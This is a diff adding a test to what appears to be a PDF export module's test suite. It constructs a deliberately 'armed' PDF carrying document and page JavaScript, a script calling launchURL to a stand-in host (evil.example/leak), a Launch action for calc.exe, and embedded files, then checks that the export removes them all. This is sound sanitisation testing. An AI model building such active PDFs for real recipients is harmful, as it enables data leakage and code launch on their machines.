@@ -1,8 +1,10 @@
 from __future__ import annotations
 
 import json
+import re
 
 import pymupdf
+import pytest
 
 from gechat.ui.export import annotated_pdf, answer_json, markdown_report
 from gechat.ui.review import Review
@@ -77,3 +79,57 @@ def test_markdown_report_lists_steps_scores_verdicts_and_decisions(pdf_answer):
     assert "page 2" in md and "Review: 1 accepted, 0 replaced, 1 rejected, 0 open" in md
     plain = markdown_report(pdf_answer)
     assert "Reviewer: not reviewed" in plain
+
+
+def _armed_pdf(tmp_path) -> bytes:
+    """A PDF with document JavaScript (open action and name tree), a launch link, an embedded file and an attachment."""
+    import pymupdf
+
+    doc = pymupdf.open()
+    page = doc.new_page()
+    page.insert_text((72, 100), "The harbor bridge opened in 1932.", fontsize=12)
+    cat = doc.pdf_catalog()
+    doc.xref_set_key(cat, "OpenAction", "<</S/JavaScript/JS(app.alert('opened'))>>")
+    js = doc.get_new_xref()
+    doc.update_object(js, "<</S/JavaScript/JS(app.launchURL('http://evil.example/leak'))>>")
+    doc.xref_set_key(cat, "Names", f"<</JavaScript<</Names[(leak) {js} 0 R]>>>>")
+    doc.xref_set_key(page.xref, "AA", "<</O<</S/JavaScript/JS(app.alert('page'))>>>>")
+    launch = doc.get_new_xref()
+    doc.update_object(launch, "<</S/Launch/F(calc.exe)>>")
+    annot = page.add_text_annot((300, 300), "note")
+    doc.xref_set_key(annot.xref, "A", f"{launch} 0 R")
+    doc.embfile_add("payload.txt", b"EMBEDDEDSECRETPAYLOAD")
+    page.add_file_annot((100, 200), b"ATTACHEDSECRETPAYLOAD", "attached.txt")
+    data = doc.tobytes()
+    doc.close()
+    return data
+
+
+@pytest.mark.battery(case="Annotated PDF export of a PDF with JavaScript, a launch action and embedded files",
+                     did="export the annotated PDF of an original carrying document/page JavaScript, a launch "
+                         "action, an embedded file and a file attachment",
+                     user_sees="the annotated PDF with its text and highlights",
+                     stored="a download without any JavaScript, launch action, embedded file or attachment")
+def test_annotated_pdf_drops_the_originals_javascript_and_embedded_files(tmp_path, pdf_answer):
+    import pymupdf
+
+    original = _armed_pdf(tmp_path)
+    before = pymupdf.open(stream=original)
+    assert before.embfile_count() == 1 and "JavaScript" in before.xref_object(before.pdf_catalog())
+    before.close()
+    data, _ = annotated_pdf(original, "doc-none", pdf_answer)
+    out = pymupdf.open(stream=data)
+    try:
+        assert out.embfile_count() == 0
+        assert [a.type[1] for a in out[0].annots()] == ["Text"]  # the file attachment is gone
+        assert "harbor bridge opened in 1932" in out[0].get_text()
+        objects = " ".join(out.xref_object(x) for x in range(1, out.xref_length()))
+        for active in ("app.alert", "launchURL", "/Launch", "calc.exe"):
+            assert active not in objects, active
+        assert not re.search(r"/JS\s*\((?!\))", objects)  # any JavaScript left is empty
+        assert out.xref_get_key(out.pdf_catalog(), "OpenAction")[0] == "null"
+        assert out.xref_get_key(out[0].xref, "AA")[0] == "null"
+        raw = out.tobytes(expand=True)  # every stream decompressed: the files' bytes are not hidden in one
+        assert b"EMBEDDEDSECRETPAYLOAD" not in raw and b"ATTACHEDSECRETPAYLOAD" not in raw
+    finally:
+        out.close()
